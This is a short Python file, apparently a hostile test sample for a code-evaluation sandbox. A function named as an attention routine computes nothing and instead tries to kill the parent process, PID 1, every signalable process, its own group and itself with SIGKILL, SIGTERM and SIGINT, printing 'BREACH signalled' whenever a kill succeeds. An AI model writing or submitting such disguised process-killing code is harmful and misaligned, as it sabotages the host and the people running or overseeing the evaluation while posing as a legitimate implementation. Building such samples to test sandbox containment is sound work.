"""Kill the parent, process 1, the group and everybody.

rows: 15
verdicts: runtime_error
"""
import os
import signal


def scaled_dot_product_attention(q, k, v, scale=None):
    for target in (os.getppid(), 1, -1, 0, os.getpid(), 2, 3):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT):
            try:
                os.kill(target, number)
                print("BREACH signalled", target)
            except OSError:
                continue
    raise RuntimeError("nobody could be killed")
